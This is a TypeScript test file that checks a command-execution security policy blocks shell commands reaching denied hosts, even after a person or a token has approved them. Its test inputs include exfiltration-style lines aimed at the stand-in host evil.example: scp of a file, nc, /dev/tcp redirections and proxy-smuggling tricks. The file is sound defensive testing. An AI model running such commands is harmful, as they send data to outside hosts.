/**
 * Host policy reaches commands: `curl http://evil.example/` under denied_hosts = ["evil.example"] used to be
 * only asked about, so a person (or a command grant) could run it.
 */
import { describe, expect, it } from "vitest"
import { DEFAULT_POLICY } from "../../domain/security/policy.js"
import { answer, makeHarness, scriptedChannel } from "../../test/securityHarness.js"

const exec = (command: string) => ({ _tag: "command_exec", command }) as const

describe("denied_hosts and allowed_hosts apply to the network programs a command runs", () => {
  it.each([
    "curl http://evil.example/",
    "curl -s https://EVIL.example./x -o out",
    "wget evil.example",
    "git clone https://evil.example/repo.git",
    "git clone git@evil.example:org/repo",
    "ssh user@evil.example",
    "scp notes.txt evil.example:/tmp/",
    "nc evil.example 443",
    "echo hi; curl http://ok.example@evil.example/",
    "timeout 5 curl https://api.evil.example/",
    // Found by review: a one-slash URL, bash's network redirections (also on a compound command or alone),
    // a proxy exported earlier on the line.
    "curl https:/evil.example/",
    "echo x > /dev/tcp/evil.example/80",
    "{ echo x; } > /dev/tcp/evil.example/80",
    "> /dev/tcp/evil.example/80",
    "export https_proxy=http://evil.example:80; curl https://ok.example"
  ])("%s is blocked by policy, even with a token for every program and a person saying yes", async (command) => {
    const channel = scriptedChannel(answer({ _tag: "AllowOnce" }))
    const h = await makeHarness({ channel, settings: { policy: { ...DEFAULT_POLICY, deniedHosts: ["evil.example", "*.evil.example"] } } })
    await h.run(h.tokens.mint({ principal: "alice", resource: "exec://*", permissions: ["execute"], approvalEventId: "t" }))
    const d = await h.intercept({ request: exec(command) })
    expect(d).toMatchObject({ _tag: "Denied", stage: "policy" })
    expect(d._tag === "Denied" ? d.reason : "").toContain("evil.example")
    expect(channel.prompts).toHaveLength(0)
  })

  it("with allowed_hosts set, a command reaching another host is blocked and an allowed one is not", async () => {
    const h = await makeHarness({ channel: scriptedChannel(answer({ _tag: "AllowOnce" })), settings: { policy: { ...DEFAULT_POLICY, allowedHosts: ["github.com"] } } })
    expect(await h.intercept({ request: exec("curl https://example.org/") })).toMatchObject({ _tag: "Denied", stage: "policy" })
    expect(await h.intercept({ request: exec("git clone https://github.com/a/b") })).toMatchObject({ _tag: "Allowed" })
  })

  it("a proxy variable set on the line asks, even where a program grant would pass the command", async () => {
    const channel = scriptedChannel(answer({ _tag: "Deny", reason: "no" }))
    const h = await makeHarness({ channel, settings: { preApproved: ["exec://curl"] } })
    expect(await h.intercept({ request: exec("curl https://ok.example/") })).toMatchObject({ _tag: "Allowed", proof: "policy" })
    expect(await h.intercept({ request: exec("https_proxy=http://evil.example:3128; curl https://ok.example/") })).toMatchObject({ _tag: "Denied", stage: "approval" })
  })

  it("an unknown network target asks, even where a program grant would pass the command", async () => {
    const channel = scriptedChannel(answer({ _tag: "Deny", reason: "no" }))
    const h = await makeHarness({ channel, settings: { preApproved: ["exec://git"] } })
    expect(await h.intercept({ request: exec("git status") })).toMatchObject({ _tag: "Allowed", proof: "policy" })
    expect(await h.intercept({ request: exec("git push origin main") })).toMatchObject({ _tag: "Denied", stage: "approval" })
    expect(channel.prompts).toHaveLength(1)
  })

  it("a grant for the exact line (Allow Always or Session on it) covers an unknown target again; a program grant never does", async () => {
    const channel = scriptedChannel(answer({ _tag: "AllowAlways" }))
    const h = await makeHarness({ channel })
    await h.run(h.tokens.mint({ principal: "alice", resource: "exec://git", permissions: ["execute"], approvalEventId: "t" }))
    expect(await h.intercept({ request: exec("git push origin main") })).toMatchObject({ _tag: "Allowed", proof: expect.stringContaining("approved") })
    expect(channel.prompts).toHaveLength(1)
    expect(await h.intercept({ request: exec("git push origin main") })).toMatchObject({ _tag: "Allowed", proof: "token" })
    expect(channel.prompts).toHaveLength(1)
    expect(await h.intercept({ request: exec("git push origin dev") })).toMatchObject({ _tag: "Allowed", proof: expect.stringContaining("approved") })
    expect(channel.prompts).toHaveLength(2)
  })
})
